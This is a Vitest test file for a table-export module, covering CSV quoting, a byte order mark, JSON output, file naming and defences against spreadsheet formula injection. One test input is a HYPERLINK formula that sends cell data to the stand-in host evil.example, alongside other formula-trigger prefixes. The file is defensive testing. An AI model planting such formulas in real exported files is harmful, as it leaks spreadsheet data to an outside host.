import { describe, expect, it } from 'vitest';
import type { CellValue, Column } from './column.ts';
import { exportFileName, toCsv, toJson } from './export-rows.ts';

const columns: readonly Column<{ name: CellValue }>[] = [
  { id: 'name', title: 'Name', cell: () => null, value: ({ name }) => name },
  { id: 'menu', title: 'Actions', cell: () => null },
];

function csvLine(name: CellValue): string | undefined {
  return toCsv([{ name }], columns).split('\r\n').slice(1, -1).join('\r\n');
}

describe('toCsv', () => {
  it('has a line for the titles of columns with values, and a byte order mark', () => {
    expect(toCsv([], columns)).toBe('\uFEFFName\r\n');
  });

  it('has the export value of a column that has one', () => {
    const people = [{ ...columns[0], exportValue: () => 'ada@example.com' }] as typeof columns;
    expect(toCsv([{ name: 'Ada' }], people)).toBe('\uFEFFName\r\nada@example.com\r\n');
  });

  it.each([
    ['plain', 'plain'],
    ['', ''],
    [null, ''],
    [undefined, ''],
    [-12.5, '-12.5'],
    [true, 'true'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
  ])('writes %j as %s', (value, line) => {
    expect(csvLine(value)).toBe(line);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1)', `"'=HYPERLINK(""http://evil.example/?""&A1)"`],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['＝1', "'＝1"],
    ['a=1', 'a=1'],
  ])('keeps a spreadsheet from running %j', (value, line) => {
    expect(csvLine(value)).toBe(line);
  });
});

it('JSON has the rows as they are', () => {
  expect(JSON.parse(toJson([{ a: { b: [1] } }]))).toEqual([{ a: { b: [1] } }]);
});

it('a file is named after the table and the local day', () => {
  expect(exportFileName('audit', 'CSV', new Date(2026, 0, 5, 23, 59))).toBe('presetd-audit-2026-01-05.csv');
});
